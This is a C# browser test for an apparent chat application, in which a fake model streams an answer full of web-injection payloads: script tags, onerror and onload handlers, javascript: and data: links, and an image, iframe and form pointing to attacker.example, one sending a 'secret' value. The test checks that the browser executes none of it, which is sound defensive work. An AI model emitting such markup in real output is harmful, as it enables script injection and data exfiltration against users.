using Microsoft.AspNetCore.Http;
using Nura.Tests.Api;
using Nura.Tests.Databases;
using Nura.Tests.Fakes;

namespace Nura.Tests.Browser;

public sealed class ChatJourneyTests(DatabaseFixture database) : IClassFixture<DatabaseFixture>
{
    private static readonly string[] s_hostile =
    [
        "## Answer of the model\n\nHats ",
        $"[{FakeRag.Cite("README.md", 2, 2)}] and nothing at [shop@0123456:made-up.md#L1-L2].\n\n",
        "![a picture](https://attacker.example/?q=secret) <img src=x onerror=\"window.stolen = 1\">\n\n",
        "[a link](javascript:window.stolen=2) [another](data:text/html,<script>window.stolen=3</script>)\n\n",
        "<script>window.stolen = 4</script><iframe src=\"https://attacker.example\"></iframe><svg onload=\"window.stolen = 5\"></svg>\n\n",
        "<form action=\"https://attacker.example\"><button>Send</button></form><style>body { display: none }</style>\n\n",
        "```html\n<script>window.stolen = 6</script>\n",
    ];

    [BrowserFact(Timeout = 240_000)]
    public async Task Chat_InARealBrowser_AsksReadsSourcesAndRunsNothingOfTheAnswer()
    {
        await using var host = await ApiHost.StartAsync(database, agentsUseModel: true);
        host.Agents.Rag.Add("README.md", "# Shop", "The shop sells hats.");
        host.Agents.Model.Instead = async (http, body) =>
        {
            http.Response.ContentType = "text/event-stream";
            if (!body["messages"]!.ToJsonString().Contains("Never end", StringComparison.Ordinal))
            {
                await http.Response.WriteAsync(FakeOpenAi.StreamOf(s_hostile));
                return true;
            }

            await http.Response.WriteAsync(FakeOpenAi.Event(FakeOpenAi.Chunk(new() { ["content"] = "Working on it" }, null)));
            await http.Response.Body.FlushAsync();
            await Task.Delay(Timeout.Infinite, http.RequestAborted);
            return true;
        };

        var output = await BrowserScript.RunAsync("chat.mjs", host.Service.Url.ToString().TrimEnd('/'), ApiHost.Key);

        Assert.Contains("ok sign-out", output, StringComparison.Ordinal);
    }
}
